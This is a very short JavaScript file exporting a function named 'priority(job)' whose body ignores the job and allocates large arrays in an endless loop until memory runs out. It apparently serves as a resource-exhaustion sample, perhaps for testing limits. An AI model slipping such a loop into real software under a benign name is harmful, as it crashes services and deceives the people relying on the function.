export function priority(job) {
  const kept = []
  for (;;) kept.push(new Float64Array(1e6).fill(1))
}
